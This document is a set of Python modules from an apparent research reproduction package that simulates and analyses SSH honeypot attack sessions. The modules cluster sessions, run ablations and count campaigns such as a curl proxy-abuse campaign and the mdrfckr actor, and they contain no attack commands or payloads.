            f"({top_banner[1]} sessions) — banners are recorded per "
            "session as in section 3.2",
        ]
        return self.result(["country", "ssh sessions"], rows, notes)


@register
class ExtBaselineClustering(Experiment):
    """K-medoids (the paper's method) vs hierarchical agglomerative.

    The baseline comparator: both methods consume the same token-DLD
    matrix; we compare silhouette quality and pairwise agreement.
    """

    experiment_id = "ext_baseline_clustering"
    title = "Baseline: K-medoids vs hierarchical clustering on the DLD matrix"
    paper_reference = "section 6 (method choice)"

    def run(self, dataset):
        from repro.analysis.hierarchical import hierarchical_cluster, pair_agreement
        from repro.analysis.kmedoids import kmedoids

        clustering = dataset.clustering()
        matrix = clustering.matrix
        k = clustering.result.k
        rows = []
        silhouettes = {}
        kmedoids_result = kmedoids(matrix, k, seed=dataset.config.seed)
        silhouettes["k-medoids (paper)"] = silhouette_score(
            matrix, kmedoids_result.labels
        )
        rows.append(
            [
                "k-medoids (paper)", k,
                f"{silhouettes['k-medoids (paper)']:.3f}",
                f"{kmedoids_result.inertia:.1f}",
            ]
        )
        for method in ("average", "complete", "single"):
            result = hierarchical_cluster(matrix, k, method=method)
            name = f"hierarchical/{method}"
            silhouettes[name] = silhouette_score(matrix, result.labels)
            rows.append(
                [name, k, f"{silhouettes[name]:.3f}", f"{result.inertia:.1f}"]
            )
        average = hierarchical_cluster(matrix, k, method="average")
        agreement = pair_agreement(kmedoids_result.labels, average.labels)
        notes = [
            f"pairwise (Rand) agreement between k-medoids and "
            f"hierarchical/average at k={k}: {agreement:.2f}",
            "the methods converge on the same dominant behaviours — the "
            "paper's clusters are not an artefact of the K-Means choice",
        ]
        return self.result(
            ["method", "k", "silhouette", "inertia"], rows, notes
        )


@register
class ExtAblationRuleOrder(Experiment):
    """What Table 1 loses if generic rules are evaluated first."""

    experiment_id = "ext_ablation_ruleorder"
    title = "Ablation: Table-1 rule ordering (specific vs generic first)"
    paper_reference = "section 5 / Table 1"

    def run(self, dataset):
        sessions = dataset.database.command_sessions()
        baseline = DEFAULT_CLASSIFIER
        generic_rules = tuple(r for r in RULES if r.name.startswith("gen_"))
        specific_rules = tuple(r for r in RULES if not r.name.startswith("gen_"))
        shuffled = CommandClassifier(generic_rules + specific_rules)
        changed = 0
        absorbed: Counter = Counter()
        for session in sessions:
            original = baseline.classify(session)
            reordered = shuffled.classify(session)
            if original != reordered:
                changed += 1
                absorbed[(original, reordered)] += 1
        rows = [
            [original, reordered, count]
            for (original, reordered), count in absorbed.most_common(12)
        ]
        coverage_same = baseline.coverage(sessions) == shuffled.coverage(sessions)
        notes = [
            f"{changed}/{len(sessions)} sessions "
            f"({changed / max(1, len(sessions)):.1%}) change category when "
            "generic rules run first — entire campaigns are absorbed into "
            "gen_* buckets",
            f"raw coverage is unchanged ({coverage_same}): ordering is "
            "about attribution, not match rate",
        ]
        return self.result(
            ["specific category", "absorbed into", "sessions"], rows, notes
        )


@register
class ExtAblationDetection(Experiment):
    """Drop-threshold sweep for the mdrfckr event detector."""

    experiment_id = "ext_ablation_detection"
    title = "Ablation: low-activity detection threshold"
    paper_reference = "sections 9-10 (events correlation)"

    THRESHOLDS = (0.02, 0.05, 0.08, 0.2, 0.5)

    def run(self, dataset):
        sessions = mdrfckr_sessions(dataset.database.command_sessions())
        per_day = {
            day: count for day, (count, _) in daily_activity(sessions).items()
        }
        rows = []
        best = None
        for threshold in self.THRESHOLDS:
            windows = detect_low_activity_windows(per_day, drop_ratio=threshold)
            correlation = correlate_events(windows)
            false_windows = len(correlation.unmatched_windows)
            rows.append(
                [
                    threshold,
                    len(windows),
                    f"{correlation.recall:.0%}",
                    false_windows,
                ]
            )
            score = correlation.recall - 0.02 * false_windows
            if best is None or score > best[1]:
                best = (threshold, score)
        notes = [
            f"best trade-off at drop_ratio={best[0]} for this scale",
            "looser thresholds inflate false windows (Poisson noise at "
            "reduced scale); stricter ones miss short documented events — "
            "at the paper's full volume the collapse is unambiguous",
        ]
        return self.result(
            ["drop threshold", "windows", "event recall", "unmatched windows"],
            rows,
            notes,
        )
