"""Run experiments and render reports (the per-figure harness)."""

from __future__ import annotations

import importlib

from repro import telemetry
from repro.config import DEFAULT_CONFIG, SimulationConfig
from repro.experiments.base import REGISTRY, ExperimentResult, get_experiment
from repro.experiments.dataset import Dataset, build_dataset

#: Modules that register experiments (import order = report order).
_EXPERIMENT_MODULES = (
    "repro.experiments.table_stats",
    "repro.experiments.fig01_state_change",
    "repro.experiments.fig02_non_state_bots",
    "repro.experiments.fig03_state_mod",
    "repro.experiments.fig04_file_exec",
    "repro.experiments.fig05_dld_matrix",
    "repro.experiments.fig06_clusters_time",
    "repro.experiments.fig07_sankey",
    "repro.experiments.fig08_as_age_size",
    "repro.experiments.fig09_storage_activity",
    "repro.experiments.fig10_passwords",
    "repro.experiments.fig11_cowrie_defaults",
    "repro.experiments.fig12_mdrfckr_activity",
    "repro.experiments.fig13_mdrfckr_variant",
    "repro.experiments.fig14_category_dld",
    "repro.experiments.fig15_curl_campaign",
    "repro.experiments.fig16_unique_commands",
    "repro.experiments.fig17_storage_astypes",
    "repro.experiments.table1_regex",
    "repro.experiments.extensions",
)


def load_all_experiments() -> list[str]:
    """Import every experiment module; returns registered ids."""
    for module in _EXPERIMENT_MODULES:
        importlib.import_module(module)
    return list(REGISTRY)


def run_experiment(
    experiment_id: str,
    dataset: Dataset | None = None,
    config: SimulationConfig = DEFAULT_CONFIG,
) -> ExperimentResult:
    """Run one experiment by id."""
    load_all_experiments()
    if dataset is None:
        dataset = build_dataset(config)
    with telemetry.span(f"experiment.{experiment_id}"):
        result = get_experiment(experiment_id).run(dataset)
    telemetry.count("experiments.completed")
    return result


def run_all(
    dataset: Dataset | None = None,
    config: SimulationConfig = DEFAULT_CONFIG,
) -> dict[str, ExperimentResult]:
    """Run every registered experiment against one dataset."""
    ids = load_all_experiments()
    if dataset is None:
        dataset = build_dataset(config)
    return {
        experiment_id: run_experiment(experiment_id, dataset)
        for experiment_id in ids
    }


def render_report(results: dict[str, ExperimentResult]) -> str:
    """One text report covering every experiment."""
    return "\n\n".join(result.render() for result in results.values())


def main() -> None:
    """CLI entry point: run everything and print the report."""
    import argparse

    parser = argparse.ArgumentParser(description="repro experiment runner")
    parser.add_argument("--scale", type=float, default=DEFAULT_CONFIG.scale)
    parser.add_argument("--seed", type=int, default=DEFAULT_CONFIG.seed)
    parser.add_argument(
        "--workers", type=int, default=DEFAULT_CONFIG.workers,
        help="worker processes for the parallel engine (1 = serial)",
    )
    parser.add_argument(
        "--only", nargs="*", default=None, help="experiment ids to run"
    )
    parser.add_argument(
        "--telemetry", type=str, default=None, metavar="PATH",
        help="collect run telemetry and write it as JSON",
    )
    args = parser.parse_args()
    config = SimulationConfig(
        scale=args.scale, seed=args.seed, workers=args.workers
    )
    load_all_experiments()
    registry = telemetry.enable() if args.telemetry else None
    try:
        dataset = build_dataset(config)
        ids = args.only or list(REGISTRY)
        results = {eid: run_experiment(eid, dataset) for eid in ids}
    finally:
        if registry is not None:
            telemetry.disable()
    print(render_report(results))
    if registry is not None:
        meta = {
            "command": "experiments.runner",
            "seed": config.seed,
            "scale": config.scale,
            "workers": config.workers,
        }
        telemetry.write_telemetry_json(args.telemetry, registry, meta=meta)
        print(f"wrote {args.telemetry}")


if __name__ == "__main__":
    main()
