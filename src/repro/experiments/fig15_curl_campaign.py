"""Figure 15 + appendix C: the curl proxy-abuse campaign."""

from __future__ import annotations

from collections import Counter

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.monthly import monthly_counts
from repro.analysis.storage import uri_host
from repro.config import PAPER
from repro.experiments.base import Experiment, register


@register
class Fig15CurlCampaign(Experiment):
    """Shape of the curl_maxred sessions (clients, targets, requests)."""

    experiment_id = "fig15"
    title = "curl proxy-abuse campaign (curl_maxred)"
    paper_reference = "Figure 15 + appendix C"

    def run(self, dataset):
        sessions = [
            s
            for s in dataset.database.command_sessions()
            if DEFAULT_CLASSIFIER.classify(s) == "curl_maxred"
        ]
        request_count = sum(
            sum(1 for c in s.commands if c.raw.startswith("curl ")) for s in sessions
        )
        clients = {s.client_ip for s in sessions}
        honeypots = {s.honeypot_id for s in sessions}
        targets: Counter = Counter()
        cookies: set[str] = set()
        methods: Counter = Counter()
        for session in sessions:
            for uri in session.uris:
                host = uri_host(uri)
                if host:
                    targets[host] += 1
            for command in session.commands:
                if "--cookie" in command.raw:
                    cookie = command.raw.split("--cookie '", 1)[-1].split("'", 1)[0]
                    cookies.add(cookie)
                if "-X GET" in command.raw:
                    methods["GET"] += 1
                elif "-X POST" in command.raw:
                    methods["POST"] += 1
        per_month = monthly_counts(sessions)
        rows = [
            [month, per_month[month]] for month in sorted(per_month)
        ]
        sample = next(
            (
                c.raw
                for s in sessions
                for c in s.commands
                if c.raw.startswith("curl ")
            ),
            "-",
        )
        notes = [
            f"sessions: {len(sessions)} from {len(clients)} client IPs "
            f"(paper: ~{PAPER.curl_maxred_sessions:,} from "
            f"{PAPER.curl_maxred_client_ips})",
            f"honeypots abused as proxies: {len(honeypots)} "
            f"(paper: {PAPER.curl_maxred_honeypots} of 221)",
            f"curl requests: {request_count} "
            f"(paper: {PAPER.curl_maxred_requests:,} at full scale); "
            f"distinct target hosts: {len(targets)} (paper: >100)",
            f"every cookie unique: {len(cookies) == request_count} "
            f"({len(cookies)} cookies for {request_count} requests)",
            f"methods mix: {dict(methods)}",
            f"sample command: {sample[:120]}...",
            "downloads fail against these targets, so the honeypot keeps "
            "no artifacts — the sessions are pure proxying",
        ]
        return self.result(["month", "sessions"], rows, notes)
