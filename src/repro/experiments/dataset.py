"""Shared dataset construction for all experiments.

One call produces the synthetic honeynet recording *and* every external
substrate the analyses join against (abuse feeds, Killnet list,
Shadowserver report).  Expensive derived products (the clustering) are
computed lazily and cached on the dataset.  Datasets are cached per
configuration so a test session or benchmark run only simulates once.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from repro import telemetry
from repro.abusedb.aggregate import AbuseDatasets, build_abuse_datasets
from repro.abusedb.killnet import build_killnet_list
from repro.abusedb.shadowserver import (
    CompromisedSshReport,
    build_shadowserver_report,
)
from repro.analysis.clusterlabel import ClusterProfile, profile_clusters
from repro.analysis.clusterselect import KSelection, cluster_with_selection
from repro.analysis.distance import (
    distance_matrix,
    sample_sessions,
    session_tokens,
)
from repro.analysis.kmedoids import ClusteringResult
from repro.attackers.bots.mdrfckr import MDRFCKR_KEY
from repro.attackers.bots.named_campaigns import RAPPERBOT_KEY
from repro.attackers.orchestrator import SimulationResult, run_simulation
from repro.config import SimulationConfig
from repro.faults.coverage import (
    CoverageReport,
    integrity_note,
    overload_note,
    validate_coverage,
)
from repro.honeypot.session import SessionRecord
from repro.util.hashing import sha256_hex
from repro.util.rng import RngTree

#: Max sessions fed to the O(n²) clustering stage.
CLUSTER_SAMPLE_LIMIT = 400


@dataclass
class Clustering:
    """Clustering products shared by Figures 5, 6 and 14."""

    sessions: list[SessionRecord]
    tokens: list[list[str]]
    matrix: np.ndarray
    result: ClusteringResult
    selection: KSelection
    profiles: list[ClusterProfile]
    #: Which distance pipeline produced ``matrix`` ("exact" or "lsh").
    mode: str = "exact"
    #: The sketch-path record (pruned mask, candidate counts) when
    #: ``mode == "lsh"``; None on the exact path.
    approx: object = None


@dataclass
class Dataset:
    """The full joined dataset one experiment run works from."""

    simulation: SimulationResult
    abuse: AbuseDatasets
    killnet_ips: set[str]
    shadowserver: CompromisedSshReport
    #: Distance pipeline for the clustering stage: "exact" runs every
    #: distinct pair (the differential oracle), "lsh" routes through the
    #: MinHash/LSH prefilter (bit-identical below the sketch activation
    #: floor — which paper scale always is; see repro.analysis.sketch).
    cluster_mode: str = "exact"
    _clusterings: dict = field(default_factory=dict, repr=False)

    @property
    def config(self) -> SimulationConfig:
        return self.simulation.config

    @property
    def database(self):
        return self.simulation.database

    @property
    def whois(self):
        return self.simulation.whois

    @property
    def coverage(self) -> CoverageReport:
        """Observed-sensor-day coverage under the run's fault plan."""
        return self.simulation.coverage

    def coverage_notes(self) -> list[str]:
        """Gap annotations experiments attach to time-series figures.

        Empty under a perfect instrument; under the paper profile it
        flags October 2023 (the 48-hour outage), and under degraded
        profiles every month whose sensor-day coverage is incomplete —
        so a dark month reads as "instrument gap", never "attacks
        stopped".  When records were lost to storage corruption and
        quarantined (a recovered dataset rather than a live run), the
        loss is annotated too, and records shed by admission control
        during flood days are annotated exactly like outage gaps.
        """
        notes = self.coverage.notes()
        collector = self.simulation.collector
        generated = collector.accounting()["generated"]
        for note in (
            integrity_note(collector.quarantined, generated),
            overload_note(collector.shed, generated),
        ):
            if note is not None:
                notes.append(note)
        return notes

    def file_sessions(self) -> list[SessionRecord]:
        """Sessions in which a payload was loaded (the clustering input).

        A payload load is either a captured transfer (wget/curl/tftp/
        ftpget artifact) or a shell-written file that the session then
        executed (echo-hex droppers).  Plain configuration writes — e.g.
        the mdrfckr authorized_keys install — are not payload loads.
        """
        from repro.honeypot.session import FileOp

        selected: list[SessionRecord] = []
        for session in self.database.command_sessions():
            if session.transfer_hashes():
                selected.append(session)
                continue
            if any(
                event.op == FileOp.EXECUTE and event.sha256
                for event in session.file_events
            ):
                selected.append(session)
        return selected

    def clustering(
        self,
        sample_limit: int = CLUSTER_SAMPLE_LIMIT,
        mode: str | None = None,
    ) -> Clustering:
        """Tokenize, measure, select k and cluster (cached per mode).

        ``mode`` defaults to the dataset's :attr:`cluster_mode`; both
        modes of the same dataset can coexist in the cache, which is
        what the exact-vs-LSH differential tests exercise.
        """
        if mode is None:
            mode = self.cluster_mode
        key = (mode, sample_limit)
        if key not in self._clusterings:
            with telemetry.span("dataset.clustering"), telemetry.profile(
                "clustering"
            ):
                sessions = sample_sessions(
                    self.file_sessions(), sample_limit, seed=self.config.seed
                )
                tokens = session_tokens(sessions)
                approx = None
                if mode == "lsh":
                    from repro.analysis.sketch import sketch_distance_matrix

                    approx = sketch_distance_matrix(
                        tokens, workers=self.config.workers
                    )
                    matrix = approx.values
                else:
                    matrix = distance_matrix(
                        tokens, workers=self.config.workers, mode=mode
                    )
                result, selection = cluster_with_selection(
                    matrix, seed=self.config.seed
                )
                profiles = profile_clusters(
                    result, sessions, tokens, self.abuse
                )
                self._clusterings[key] = Clustering(
                    sessions=sessions,
                    tokens=tokens,
                    matrix=matrix,
                    result=result,
                    selection=selection,
                    profiles=profiles,
                    mode=mode,
                    approx=approx,
                )
        return self._clusterings[key]


#: The SHA-256 the honeypot records for the installed mdrfckr key file.
MDRFCKR_KEY_FILE_HASH = sha256_hex(MDRFCKR_KEY + "\n")

_CACHE: dict[tuple, Dataset] = {}


def _cache_key(config: SimulationConfig) -> tuple:
    return (
        config.seed,
        config.scale,
        config.start,
        config.end,
        config.n_honeypots,
        config.include_telnet,
        config.faults,
    )


def build_dataset(
    config: SimulationConfig,
    use_cache: bool = True,
    *,
    store_dir=None,
) -> Dataset:
    """Simulate (or reuse) the dataset for ``config``.

    ``store_dir``, when set, persists the simulated recording as an
    indexed artifact tree (:mod:`repro.store`) under that directory —
    a pure projection of the result, so the dataset itself is identical
    with or without it.  A cached dataset skips the simulation but still
    writes the tree, so the tree always exists after this call.
    """
    key = _cache_key(config)
    if use_cache and key in _CACHE:
        telemetry.count("dataset.cache_hits")
        cached = _CACHE[key]
        if store_dir is not None:
            from repro.attackers.orchestrator import _export_store

            _export_store(cached.simulation, store_dir)
        return cached
    with telemetry.span("dataset.build"):
        telemetry.count("dataset.builds")
        with telemetry.span("dataset.simulate"), telemetry.profile("simulate"):
            simulation = run_simulation(config, store_dir=store_dir)
        # Refuse to analyse a dataset whose instrument was mostly dark
        # or mostly shedding; every figure downstream assumes the gaps
        # are annotatable, not dominant.
        validate_coverage(
            simulation.coverage,
            accounting=simulation.collector.accounting(),
        )
        with telemetry.span("dataset.external"):
            storage_ips = [
                host.ip for host in simulation.infrastructure.hosts
            ]
            abuse = build_abuse_datasets(
                simulation.malware,
                storage_ips,
                extra_hashes={MDRFCKR_KEY_FILE_HASH: "CoinMiner"},
            )
            tree = RngTree(config.seed).child("external")
            from repro.attackers.fleetplan import find_bot

            mdrfckr_pool = find_bot(simulation.bots, "mdrfckr").pool
            killnet = build_killnet_list(
                mdrfckr_pool.ips, simulation.population, tree
            )
            shadowserver = build_shadowserver_report(
                MDRFCKR_KEY, RAPPERBOT_KEY, config.scale, tree
            )
        dataset = Dataset(
            simulation=simulation,
            abuse=abuse,
            killnet_ips=killnet,
            shadowserver=shadowserver,
        )
    if use_cache:
        _CACHE[key] = dataset
    return dataset


def clear_cache() -> None:
    """Drop all cached datasets (mainly for tests)."""
    _CACHE.clear()


def database_from_artifacts(root):
    """Load a :class:`~repro.honeynet.database.SessionDatabase` from a
    persisted artifact tree (the ``store_dir`` of an earlier run).

    Robust by construction: the records come from the lenient shard-scan
    path (damaged lines quarantine-skipped, duplicates dropped, order
    repaired), never from the index — so a corrupt or stale
    ``index.sqlite`` can slow this down but never change the answer.
    """
    from repro.store import ResilientArtifactStore

    with telemetry.span("dataset.load_artifacts"):
        return ResilientArtifactStore(root).database()
