"""Figure 12: the mdrfckr actor's daily activity and its collapses."""

from __future__ import annotations

from repro.analysis.mdrfckr_case import (
    base64_uploader_ips,
    c2_ips_from_cleanups,
    correlate_events,
    daily_activity,
    decode_base64_uploads,
    detect_low_activity_windows,
    mdrfckr_sessions,
)
from repro.attackers.bots.mdrfckr import MDRFCKR_KEY
from repro.config import PAPER
from repro.experiments.base import Experiment, register
from repro.util.hashing import sha256_hex
from repro.util.timeutils import month_key


@register
class Fig12MdrfckrActivity(Experiment):
    """Daily sessions/IPs, detected drop windows, event correlation."""

    experiment_id = "fig12"
    title = "mdrfckr actor: temporal view and event correlation"
    paper_reference = "Figure 12 + section 10"

    def run(self, dataset):
        sessions = mdrfckr_sessions(dataset.database.command_sessions())
        activity = daily_activity(sessions)
        monthly: dict[str, list[tuple[int, int]]] = {}
        for day, (count, ips) in activity.items():
            monthly.setdefault(month_key(day), []).append((count, ips))
        rows = []
        for month in sorted(monthly):
            values = monthly[month]
            mean_sessions = sum(v[0] for v in values) / len(values)
            mean_ips = sum(v[1] for v in values) / len(values)
            low_days = sum(1 for v in values if v[0] <= 0.05 * mean_sessions)
            rows.append(
                [month, f"{mean_sessions:.1f}", f"{mean_ips:.1f}", low_days]
            )
        per_day = {day: count for day, (count, _) in activity.items()}
        windows = detect_low_activity_windows(per_day)
        correlation = correlate_events(windows)
        decoded = decode_base64_uploads(sessions)
        uploader_ips = base64_uploader_ips(decoded)
        kinds = sorted({script.kind for script in decoded})
        c2 = c2_ips_from_cleanups(decoded)
        killnet_overlap = len(
            {s.client_ip for s in sessions} & dataset.killnet_ips
        )
        from repro.experiments.dataset import MDRFCKR_KEY_FILE_HASH

        mdr_hash_label = dataset.abuse.label(MDRFCKR_KEY_FILE_HASH)
        shadowserver_hosts = dataset.shadowserver.host_count(
            sha256_hex(MDRFCKR_KEY)
        )
        notes = [
            f"total mdrfckr sessions: {len(sessions)} from "
            f"{len({s.client_ip for s in sessions})} IPs (paper: "
            f"{PAPER.mdrfckr_sessions:,} from "
            f"{PAPER.mdrfckr_client_ips:,} at full scale)",
            f"detected low-activity windows: {len(windows)}; documented "
            f"events matched: {len(correlation.matched_events)}/"
            f"{len(correlation.matched_events) + len(correlation.unmatched_events)} "
            f"(recall {correlation.recall:.0%})",
            f"base64 uploads decoded: {len(decoded)} across kinds {kinds} "
            f"from {len(uploader_ips)} one-shot-ish IPs (paper: "
            f"{PAPER.base64_upload_ips:,} IPs, three script families)",
            f"C2 IPs named by cleanup scripts: {len(c2)} (paper: 8)",
            f"client-IP overlap with the Killnet proxy list: "
            f"{killnet_overlap} addresses (paper: "
            f"{PAPER.killnet_overlap_ips})",
            f"abuse label of the persistence-key file hash: {mdr_hash_label} "
            "(paper: CoinMiner/Malicious)",
            f"Shadowserver report: mdrfckr key on {shadowserver_hosts} "
            "hosts — the most prevalent key "
            f"(paper: >{PAPER.shadowserver_mdrfckr_hosts:,} at full scale)",
        ]
        notes.extend(dataset.coverage_notes())
        return self.result(
            ["month", "mean sessions/day", "mean IPs/day", "low days"],
            rows,
            notes,
        )
