"""Dataset statistics (paper section 3.3) — the headline volumes."""

from __future__ import annotations

from repro.analysis.categories import SessionCategory, category_counts
from repro.config import PAPER
from repro.experiments.base import Experiment, register
from repro.util.text import percentage


@register
class DatasetStats(Experiment):
    """Total/SSH session counts and the four-category breakdown."""

    experiment_id = "table_stats"
    title = "Dataset statistics (section 3.3)"
    paper_reference = "section 3.3"

    def run(self, dataset):
        db = dataset.database
        total = len(db)
        ssh = db.ssh_sessions()
        counts = category_counts(ssh)
        scale = dataset.config.scale
        rows = [
            ["total sessions", total, PAPER.total_sessions,
             f"{total / scale / PAPER.total_sessions:.2f}"],
            ["ssh sessions", len(ssh), PAPER.ssh_sessions,
             f"{len(ssh) / scale / PAPER.ssh_sessions:.2f}"],
            ["unique client IPs", len(db.unique_client_ips()),
             PAPER.unique_client_ips, "-"],
        ]
        paper_by_category = {
            SessionCategory.SCANNING: PAPER.scanning_sessions,
            SessionCategory.SCOUTING: PAPER.scouting_sessions,
            SessionCategory.INTRUSION: PAPER.intrusion_sessions,
            SessionCategory.COMMAND_EXECUTION: PAPER.command_sessions,
        }
        for category, paper_value in paper_by_category.items():
            measured = counts.get(category, 0)
            rows.append(
                [
                    category.value,
                    measured,
                    paper_value,
                    f"{measured / scale / paper_value:.2f}",
                ]
            )
        from repro.analysis.commands_stats import command_visibility

        telnet = total - len(ssh)
        visibility = command_visibility(db.command_sessions())
        notes = [
            "ratio column = measured/(scale×paper); 1.00 means the scaled "
            "volume matches the paper exactly",
            f"scouting share measured "
            f"{percentage(counts.get(SessionCategory.SCOUTING, 0), len(ssh)):.1f}% "
            f"vs paper {percentage(PAPER.scouting_sessions, PAPER.ssh_sessions):.1f}%",
            f"telnet sessions: {telnet} "
            f"({percentage(telnet, total):.0f}% of all; paper: "
            f"{percentage(PAPER.total_sessions - PAPER.ssh_sessions, PAPER.total_sessions):.0f}% "
            "— recorded but excluded from the SSH analyses)",
            f"unknown command lines: {visibility.unknown_fraction:.1%} of "
            f"{visibility.total_lines}; most common unknown commands: "
            f"{visibility.top_unknown_commands[:4]} (the scp/rsync "
            "visibility boundary of section 3.2)",
        ]
        return self.result(
            ["metric", "measured", "paper", "scaled ratio"], rows, notes
        )
