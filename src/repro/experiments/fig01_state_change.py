"""Figure 1: state-changing vs non-state-changing command sessions."""

from __future__ import annotations

from repro.analysis.monthly import daily_box_stats
from repro.analysis.statechange import StateClass, state_class
from repro.config import PAPER
from repro.experiments.base import Experiment, register
from repro.util.timeutils import parse_month


@register
class Fig01StateChange(Experiment):
    """Monthly boxplot stats of daily session counts per state class."""

    experiment_id = "fig01"
    title = "Sessions with commands: changing vs not changing state"
    paper_reference = "Figure 1"

    def run(self, dataset):
        commands = dataset.database.command_sessions()
        changing = [
            s for s in commands if state_class(s) != StateClass.NON_STATE
        ]
        stable = [
            s for s in commands if state_class(s) == StateClass.NON_STATE
        ]
        changing_stats = daily_box_stats(changing)
        stable_stats = daily_box_stats(stable)
        months = sorted(set(changing_stats) | set(stable_stats))
        rows = []
        for month in months:
            c = changing_stats.get(month)
            s = stable_stats.get(month)
            rows.append(
                [
                    month,
                    f"{c['median']:.1f}" if c else "0",
                    f"{c['total']:.0f}" if c else "0",
                    f"{s['median']:.1f}" if s else "0",
                    f"{s['total']:.0f}" if s else "0",
                ]
            )
        pre = [m for m in months if parse_month(m).year < 2023]
        post = [m for m in months if parse_month(m).year >= 2023]

        def mean_total(stats, keys):
            values = [stats[m]["total"] for m in keys if m in stats]
            return sum(values) / len(values) if values else 0.0

        shift = (
            mean_total(stable_stats, post) / mean_total(stable_stats, pre)
            if mean_total(stable_stats, pre)
            else 0.0
        )
        total_changing = sum(v["total"] for v in changing_stats.values())
        total_stable = sum(v["total"] for v in stable_stats.values())
        notes = [
            f"non-state sessions grew {shift:.2f}x from pre-2023 to 2023+ "
            "(paper: clear increase starting early 2023)",
            f"totals: non-state {total_stable:.0f} vs state {total_changing:.0f} "
            f"(paper ratio {PAPER.non_state_sessions / PAPER.state_sessions:.2f}, "
            f"measured {total_stable / max(1, total_changing):.2f})",
        ]
        notes.extend(dataset.coverage_notes())
        return self.result(
            [
                "month",
                "changing median/day",
                "changing total",
                "non-state median/day",
                "non-state total",
            ],
            rows,
            notes,
        )
