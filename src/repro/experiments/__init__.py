"""Per-figure/table experiments reproducing the paper's evaluation."""

from repro.experiments.base import (
    REGISTRY,
    Experiment,
    ExperimentResult,
    get_experiment,
    register,
)
from repro.experiments.dataset import (
    MDRFCKR_KEY_FILE_HASH,
    Clustering,
    Dataset,
    build_dataset,
    clear_cache,
    database_from_artifacts,
)
from repro.experiments.runner import (
    load_all_experiments,
    render_report,
    run_all,
    run_experiment,
)

__all__ = [
    "REGISTRY",
    "Experiment",
    "ExperimentResult",
    "get_experiment",
    "register",
    "MDRFCKR_KEY_FILE_HASH",
    "Clustering",
    "Dataset",
    "build_dataset",
    "clear_cache",
    "database_from_artifacts",
    "load_all_experiments",
    "render_report",
    "run_all",
    "run_experiment",
]
