"""Figure 11: Cowrie default-account fingerprinting."""

from __future__ import annotations

from repro.analysis.logins import default_account_stats
from repro.config import PAPER
from repro.experiments.base import Experiment, register


@register
class Fig11CowrieDefaults(Experiment):
    """phil (succeeds) vs richard (legacy, fails) login probing."""

    experiment_id = "fig11"
    title = "Logins with Cowrie default usernames"
    paper_reference = "Figure 11"

    def run(self, dataset):
        ssh = dataset.database.ssh_sessions()
        phil = default_account_stats(ssh, "phil", dataset.whois)
        richard = default_account_stats(ssh, "richard", dataset.whois)
        months = sorted(set(phil.monthly) | set(richard.monthly))
        rows = [
            [month, phil.monthly.get(month, 0), richard.monthly.get(month, 0)]
            for month in months
        ]
        notes = [
            f"phil: {phil.sessions} sessions ({phil.successes} successful) "
            f"from {phil.unique_ips} IPs in {phil.unique_ases} ASes "
            f"(paper: ~{PAPER.phil_sessions // 1000}k sessions, "
            f">{PAPER.phil_client_ips // 1000}k IPs, >"
            f"{PAPER.phil_ases // 1000}k ASes at full scale)",
            f"phil sessions with no commands after login: "
            f"{phil.silent_fraction:.0%} (paper: >90% — honeypot "
            "fingerprinting, not compromise)",
            f"richard: {richard.sessions} attempts, {richard.successes} "
            "successes (the deployment runs post-2020 Cowrie, so richard "
            "always fails)",
        ]
        return self.result(
            ["month", "phil logins", "richard attempts"], rows, notes
        )
