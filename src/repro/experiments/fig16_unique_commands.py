"""Figure 16 (appendix D): command uniqueness of exec sessions."""

from __future__ import annotations

from collections import defaultdict

from repro.analysis.monthly import session_month
from repro.analysis.statechange import ExecOutcome, exec_outcome
from repro.experiments.base import Experiment, register


@register
class Fig16UniqueCommands(Experiment):
    """Unique command strings per month, file-exists vs file-missing."""

    experiment_id = "fig16"
    title = "Unique exec-session commands: file exists vs missing"
    paper_reference = "Figure 16 (appendix D)"

    def run(self, dataset):
        unique_exists: dict[str, set[str]] = defaultdict(set)
        unique_missing: dict[str, set[str]] = defaultdict(set)
        for session in dataset.database.command_sessions():
            outcome = exec_outcome(session)
            if outcome is None:
                continue
            bucket = (
                unique_exists
                if outcome == ExecOutcome.FILE_EXISTS
                else unique_missing
            )
            bucket[session_month(session)].add(session.command_text)
        months = sorted(set(unique_exists) | set(unique_missing))
        rows = [
            [
                month,
                len(unique_exists.get(month, set())),
                len(unique_missing.get(month, set())),
            ]
            for month in months
        ]
        total_exists = len(set().union(*unique_exists.values())) if unique_exists else 0
        total_missing = len(set().union(*unique_missing.values())) if unique_missing else 0
        months_where_missing_higher = sum(
            1
            for month in months
            if len(unique_missing.get(month, set()))
            >= len(unique_exists.get(month, set()))
        )
        notes = [
            f"unique commands: file-missing {total_missing} vs file-exists "
            f"{total_exists} (paper: missing sessions show higher "
            "variability — more obfuscation)",
            f"file-missing uniqueness ≥ file-exists in "
            f"{months_where_missing_higher}/{len(months)} months",
        ]
        notes.extend(dataset.coverage_notes())
        return self.result(
            ["month", "unique cmds (file exists)", "unique cmds (file missing)"],
            rows,
            notes,
        )
