"""Figure 17 (appendix E): AS types of storage locations over time."""

from __future__ import annotations

from collections import Counter

from repro.analysis.storage import (
    download_observations,
    infrastructure_observations,
    monthly_as_types,
)
from repro.experiments.base import Experiment, register

TYPE_ORDER = ("CDN", "Hosting", "ISP/NSP", "Other")


@register
class Fig17StorageAsTypes(Experiment):
    """Monthly storage-AS type shares."""

    experiment_id = "fig17"
    title = "AS types of malware storage locations over time"
    paper_reference = "Figure 17 (appendix E)"

    def run(self, dataset):
        observations = infrastructure_observations(
            download_observations(dataset.database.command_sessions())
        )
        per_month = monthly_as_types(observations, dataset.whois)
        rows = []
        for month in sorted(per_month):
            counter = per_month[month]
            total = sum(counter.values()) or 1
            rows.append(
                [month]
                + [
                    f"{counter.get(kind, 0) / total:.0%}"
                    for kind in TYPE_ORDER
                ]
                + [total]
            )
        totals: Counter = Counter()
        for counter in per_month.values():
            totals.update(counter)
        grand = sum(totals.values()) or 1
        late_2023 = [
            m for m in ("2023-10", "2023-11", "2023-12")
            if per_month.get(m, Counter()).get("Other", 0) > 0
        ]
        notes = [
            f"Hosting share overall: {totals.get('Hosting', 0) / grand:.0%} "
            "(paper: majority of malware downloads from Hosting ASes)",
            f"ISP/NSP share: {totals.get('ISP/NSP', 0) / grand:.0%}, "
            f"CDN: {totals.get('CDN', 0) / grand:.0%} "
            "(paper: sporadic appearances)",
            f"'Other' ASes appear in late-2023 months {late_2023} "
            "(paper: an end-2023 spike of unlabelled ASes that all turn "
            "out to provide hosting)",
        ]
        return self.result(["month", *TYPE_ORDER, "sessions"], rows, notes)
